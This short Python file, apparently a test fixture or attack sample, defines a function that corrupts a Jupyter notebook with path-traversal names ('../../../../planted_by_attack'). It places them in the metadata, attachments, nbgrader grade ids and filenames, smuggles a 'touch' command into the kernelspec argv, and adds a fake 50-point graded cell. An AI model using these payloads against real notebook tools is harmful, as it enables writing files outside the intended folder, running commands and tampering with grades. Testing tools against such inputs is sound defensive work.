"""Use paths that lead out of the folder as names: of cells, attachments, the kernel and the notebook's own.

Known to work against tools that write outputs and attachments to files named by the notebook.
"""


def damage(notebook):
    from nbformat.v4 import new_code_cell, new_markdown_cell

    out = "../../../../planted_by_attack"
    notebook.metadata["name"] = notebook.metadata["title"] = out
    notebook.metadata["kernelspec"] = {"name": out, "argv": ["touch", "/tmp/planted_by_attack"], "display_name": out}
    notebook.cells.append(new_markdown_cell(f"![x](attachment:{out})", attachments={out: {"image/png": "AAAA"}}))
    extra = new_code_cell("1")
    extra.metadata["nbgrader"] = {"grade_id": out, "grade": True, "points": 50, "schema_version": 3, "solution": False}
    extra.metadata["filename"] = out
    notebook.cells.append(extra)
    return notebook


# --- the answer ---
def answer(*values, **options):
    return 1
